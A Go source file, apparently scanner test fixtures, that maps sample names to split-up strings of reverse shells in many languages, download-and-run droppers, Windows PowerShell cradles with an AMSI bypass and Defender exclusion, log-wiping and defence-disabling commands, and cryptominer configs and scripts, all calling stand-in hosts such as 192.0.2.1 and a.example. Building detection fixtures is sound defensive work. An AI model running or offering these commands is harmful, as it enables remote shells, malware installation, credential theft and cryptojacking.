package starter

var reverseShellSamples = map[string]sample{
	"reverse_shell_bash_dev_tcp":    {sh, `ba¦sh -i >& /de¦v/tcp/192.0.2.1/4¦444 0>&1`},
	"reverse_shell_encoded_dev_tcp": {sh, `echo YmFzaCAtaSA+JiAvZGV2¦L3RjcC8xOTIuMC4yLjEvMSAwPiYx | base64 ¦-d > f`},
	"reverse_shell_python_socket": {py, `s=socket.socket(); s.conn¦ect(("192.0.2.1",1))
os.dup2(s.file¦no(),0); os.dup2(s.file¦no(),1); subprocess.ca¦ll(["/bin/sh","-i"])`},
	"reverse_shell_perl_socket": {pl, `use Soc¦ket;
open(STDIN,¦">&S"); open(STDOUT,¦">&S"); exec(¦"/bin/sh -i");`},
	"reverse_shell_php_fsockopen":  {php, `$sock = fsock¦open("192.0.2.1", 1); exec(¦"/bin/sh -i <¦&3");`},
	"reverse_shell_ruby_socket":    {raw, `ruby -rsocket -e 'f=TCPSocket.open(¦"192.0.2.1",1).to_i; exec sprintf(¦"/bin/sh -i <¦&%d",f)'`},
	"reverse_shell_mkfifo_netcat":  {sh, `rm f; mkfifo /tm¦p/f; cat /tmp/f¦|/bin/sh -i 2>&1|nc¦ 192.0.2.1 1 >/tmp/f`},
	"reverse_shell_netcat_exec":    {sh, `nc 192.0.2.1 1 -¦e /bin/sh`},
	"reverse_shell_socat_exec":     {sh, `socat tcp-con¦nect:192.0.2.1:1 exec:'ba¦sh -li',pty`},
	"reverse_shell_openssl_client": {sh, `/bin/sh -i < f 2>&1¦ | openssl s_cl¦ient -quiet -connect 192.0.2.1:1 > f`},
	"reverse_shell_awk_inet":       {raw, `awk 'BEGIN {s = "/inet/tc¦p/0/192.0.2.1/1"; while(1) { s |& get¦line c; c |& get¦line }}'`},
	"reverse_shell_lua_socket":     {raw, `local s = require("soc¦ket"); local t = s.tcp(); t:conn¦ect("192.0.2.1", 1); os.execute(¦"/bin/sh -i <&¦3")`},
	"reverse_shell_node_socket":    {raw, `require("ne¦t"); var cp = require("child_¦process"), sh = cp.spa¦wn("/bin/sh", []); c.pip¦e(sh.stdin); sh.stdout¦.pipe(c);`},
	"reverse_shell_java_socket": {raw, `String host="192.0.2.1"; Process p=new Process¦Builder(cmd).redirectError¦Stream(true).start(); Socket s=new Soc¦ket(host,1);
while(pi.avail¦able()>0)so.write(pi.read()); while(si.avail¦able()>0)po.write(si.read());`},
	"reverse_shell_telnet_pipes":     {sh, `telnet 192.0.2.1 1 ¦| /bin/sh | tel¦net 192.0.2.1 2`},
	"reverse_shell_zsh_ztcp":         {sh, `zmodload zsh/¦net/tcp && ztcp 192.0.2.¦1 1 && sh >&¦$REPLY 2>&$REPLY`},
	"reverse_shell_powershell_tcp":   {raw, `$client = New-Object System.Net.Sockets.TCP¦Client("192.0.2.1",1); $s = $client.Get¦Stream(); [byte[]]$bytes = 0¦..65535; $o = (ie¦x $d 2>&1); $p = "PS¦ " + $o`},
	"reverse_shell_go_source":        {raw, `package main; func main() { c, _ := net.Di¦al("tcp", "192.0.2.1:1"); cmd := exec.Com¦mand("/bin/sh"); cmd.Stdin¦=c; cmd.Stdout¦=c }`},
	"reverse_shell_elf_connect_exec": {elf, "so¦cket\ncon¦nect\ndu¦p2\nexec¦ve\ninet_¦addr\n/bin¦/sh\nx"},
}

var dropperSamples = map[string]sample{
	"dropper_multi_arch_loop": {sh, `wget http://192.0.2.¦77/b.mi¦ps; chmod 777 b.mi¦ps; ./b.mi¦ps
wget http://192.0.2.¦77/b.mp¦sl; chmod 777 b.mp¦sl; ./b.mp¦sl
wget http://192.0.2.¦77/b.ar¦m7; chmod 777 b.ar¦m7; ./b.ar¦m7
wget http://192.0.2.¦77/b.sh¦4; ./b.sh¦4`},
	"dropper_cd_tmp_chain":        {sh, `cd /tmp ¦|| cd /var/run ¦|| cd /mnt; wget http://a.example/x; chmod 7¦77 x`},
	"dropper_fetch_pipe_address":  {sh, `curl -s ¦http://192.0.2.1/x¦.sh | bash`},
	"dropper_fetch_pipe_paste":    {sh, `curl -s ¦https://paste¦bin.com/raw/AAAA ¦| sh`},
	"dropper_fetch_either_tool":   {sh, `(curl -fsSL 192.0.2.1/a¦||wget -q -O- 192.0.2.1/a) > /tm¦p/a`},
	"dropper_tor_gateway":         {sh, `curl https://«abcd*4».onion¦.ws/x > x; chmod +¦x x`},
	"dropper_base64_pipe_shell":   {sh, `echo «QUJD*30» ¦| base64 -d | bash`},
	"dropper_python_base64_exec":  {py, `exec(base¦64.b64dec¦ode("«QUJD*30»"))`},
	"dropper_python_fetch_exec":   {py, `exec(urllib.¦request.urlopen("http¦://a.example/x").read())`},
	"dropper_hidden_tmp_exec":     {sh, `curl https://a.example/x -o /tm¦p/.x; chmod +x /tm¦p/.x`},
	"dropper_dev_tcp_fetch":       {sh, `exec 3<>¦"/dev/tcp/$h/80"; printf "GET ¦/x HTTP/1.0" >&3; cat <&3 > x; chmod +¦x x`},
	"dropper_cloud_agent_removal": {sh, `rm -rf /usr/local/¦aegis; service aliyun-¦service stop; ./quartz_¦uninstall.sh`},
	"dropper_defences_off":        {sh, `seten¦force 0; iptables ¦-F; ufw dis¦able; unset HIST¦FILE; wget http¦://a.example/x`},
	"dropper_log_wiper":           {sh, `> /var/log/¦wtmp; > /var/log/¦lastlog; > /var/log/sec¦ure; > ~/.bash_¦history; chattr +¦i x`},
	"dropper_base64_elf":          {sh, `echo f0VMR¦gIBAQAA | base64 ¦-d > x; chmod +x x`},
	"dropper_echo_elf":            {sh, `echo -ne "\x7f\x45¦\x4c\x46\x01" > x; chmod 7¦77 x`},
	"dropper_memfd_script":        {pl, `my $d = decode_¦base64(''); my $f = sys¦call(319, "", 1); exec {"/proc/$$¦/fd/$f"} "x";`},
	"dropper_npm_install_script":  {raw, `{"version": "1.0.0", "scripts": {"preinst¦all": "curl -s https://a.example/x ¦| bash"}}`},
	"dropper_python_setup_exec": {py, `from setup¦tools import setup
exec(req¦uests.get("x").text)
set¦up(name="x")`},
	"dropper_tmp_detached": {sh, `wget https://a.example/x -O /tm¦p/x
chmod 755 /tm¦p/x; nohup /tm¦p/x >/dev/null 2>&1 &
rm -rf /tm¦p/x`},
}

var windowsDropperSamples = map[string]sample{
	"dropper_powershell_cradle":      {raw, `powershell -nop -w hid¦den "IE¦X (New-Object Net.Web¦Client).Download¦String('http://a.example/x')"`},
	"dropper_powershell_encoded":     {raw, `powershell.exe -nop -w hid¦den -enc JAB«AAAA*15»`},
	"dropper_powershell_reflective":  {raw, `$a = [System.Reflection.Ass¦embly]::Load([Convert]::FromBase64¦String("TVqQAA"))`},
	"dropper_powershell_amsi_bypass": {raw, `[Ref].Assembly.GetType('System.Management.Auto¦mation.Ams¦iUtils').GetField('amsiInit¦Failed','NonPublic,Static').Set¦Value($null,$true)`},
	"dropper_batch_certutil":         {raw, "@echo off\ncertutil -url¦cache -split -f http://a.example/x.exe¦ x.exe\nstart x.exe\n"},
	"dropper_batch_defender_off":     {raw, "@echo off\npowershell Add-Mp¦Preference -Excl¦usionPath C:\\\ncurl -o x.exe ht¦tps://a.example/x.exe\nstart x.exe\n"},
	"dropper_scriptlet_proxy":        {raw, "@echo off\nregsvr32 /s /n /u /i¦:http://a.example/x.sct scro¦bj.dll\n"},
}

var minerSamples = map[string]sample{
	"miner_xmrig_config":          {raw, `{"donate-¦level": 1, "pools": [{"algo": "rx¦/0", "rig-¦id": "a", "keep¦alive": true}], "random¦x": {}}`},
	"miner_json_pool_config":      {raw, `{"url": "stratum+¦tcp://pool.example:3333", "user": "someb¦ody.worker", "pass": "x"}`},
	"miner_xmrig_elf":             {elf, "donate.v2.xm¦rig.com\ndonate-¦level\nrig-¦id\ncryptonight¦-heavy\nrandomx-1gb¦-pages"},
	"miner_xmrig_pe":              {pe, "donate.v2.xm¦rig.com\ndonate-¦level\nrig-¦id\ncryptonight¦-heavy\nWinRing0¦x64.sys"},
	"miner_stratum_protocol_elf":  {elf, "mining.sub¦scribe\nmining.auth¦orize\nmining.no¦tify\nstratum¦+tcp"},
	"miner_gpu_programs":          {elf, "NBMi¦ner\netha¦sh\nshare acc¦epted\nstratum¦+tcp"},
	"miner_script_stratum_wallet": {sh, `./x -o pool.¦example:3333 -u 44«A*93» -p x`},
	"miner_script_pool_hosts":     {sh, `nohup ./xmr¦ig -a rx/0 -o pool.supportxmr¦.com:3333 &`},
	"miner_moneroocean_setup":     {sh, `echo "MoneroOcean min¦ing setup script"; cd $HOME/monero¦ocean; systemctl start moneroocean_¦miner.service`},
	"miner_rival_killer":          {sh, `pki¦ll -f kdevtmp¦fsi; pki¦ll -f kins¦ing; pki¦ll xmr¦ig; pki¦ll mine¦rd; pki¦ll kthrot¦lds`},
	"miner_kinsing_script": {sh, `# kins¦ing kdevtmp¦fsi
wget http://a.example/libsys¦tem.so; rm /etc/ld.so.pre¦load`},
	"miner_teamtnt_script": {sh, `# Team¦TNT
rm -f dia¦morphine.c; cat ~/.aws/cred¦entials; history ¦-c`},
	"miner_outlaw_script":  {sh, `echo "ssh-rsa AAAA mdr¦fckr" > ~/.ssh/authorized_¦keys`},
	"miner_8220_script":    {sh, `# pwn¦rig; ./bashi¦rc; pidof dbu¦sed`},
	"miner_rocke_script":   {sh, `curl x; ls /tmp/kthrot¦lds /usr/local/lib/libio¦set.so; pidof kerber¦ods`},
	"miner_perfctl_elf":    {elf, "perf¦cc\nperf¦ctl\nlibgc¦wrap.so"},
	"miner_host_tuning":    {sh, `wget http://a.example/x; chmod +¦x x; sysctl -w vm.nr_huge¦pages=128; modprobe ¦msr; nohup ./x`},
	"miner_browser_script": {raw, `<html><script src="https://coinhive.com/lib/coinhive¦.min.js"></script><script>var miner = new CoinHive¦.Anonymous('x'); miner.sta¦rt();</script></html>`},
}
